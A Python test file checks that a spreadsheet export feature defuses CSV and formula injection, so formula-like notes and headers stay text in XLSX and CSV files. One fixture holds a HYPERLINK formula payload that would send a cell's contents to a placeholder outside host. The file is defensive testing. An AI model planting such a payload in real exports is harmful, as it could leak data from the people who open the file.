"""Exported text is data, never a formula: a note or a unit name that starts like a formula
opens in Excel as the text it is (CSV/formula injection)."""

from __future__ import annotations

import csv
import io

import openpyxl

from api.exports import Column, export_response

COLUMNS = [Column("unit", "Unit", "单位"), Column("note", "Note", "备注"), Column("points", "Points", "扣分")]
HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"点击")'
ROWS = [
    {"unit": "虎门分局", "note": HOSTILE, "points": -1.5},
    {"unit": "+86 769 1234", "note": "@SUM(A1:A2)", "points": 2},
    {"unit": "长安分局", "note": "- 未按时公示", "points": None},
]


def test_xlsx_keeps_formula_like_text_as_text():
    response = export_response(COLUMNS, ROWS, fmt="xlsx", lang="zh", filename="t")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(min_row=2))
    assert cells[0][1].value == HOSTILE and cells[0][1].data_type == "s"
    assert [c.value for c in cells[0]] == ["虎门分局", HOSTILE, -1.5]  # numbers stay numbers
    assert [c.value for c in cells[1]] == ["+86 769 1234", "@SUM(A1:A2)", 2]
    assert all(c.data_type != "f" for row in cells for c in row)


def test_csv_defuses_cells_excel_would_run():
    response = export_response(COLUMNS, ROWS, fmt="csv", lang="en", filename="t")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["Unit", "Note", "Points"]
    assert rows[1] == ["虎门分局", "'" + HOSTILE, "-1.5"]
    assert rows[2] == ["'+86 769 1234", "'@SUM(A1:A2)", "2"]
    assert rows[3] == ["长安分局", "'- 未按时公示", ""]


def test_headers_named_by_a_catalog_are_text_too():
    # A leaderboard's item columns carry the catalog's item names, which a chief wrote.
    columns = [Column("unit", "Unit", "单位"), Column("item", "-1+2", HOSTILE)]
    rows = [{"unit": "虎门分局", "item": 18.5}]
    sheet = openpyxl.load_workbook(io.BytesIO(export_response(columns, rows, fmt="xlsx", lang="zh", filename="t").content)).active
    header = list(sheet.iter_rows(max_row=1))[0]
    assert [(c.value, c.data_type) for c in header] == [("单位", "s"), (HOSTILE, "s")]
    table = list(csv.reader(io.StringIO(export_response(columns, rows, fmt="csv", lang="en", filename="t")
                                        .content.decode("utf-8-sig"))))
    assert table[0] == ["Unit", "'-1+2"]
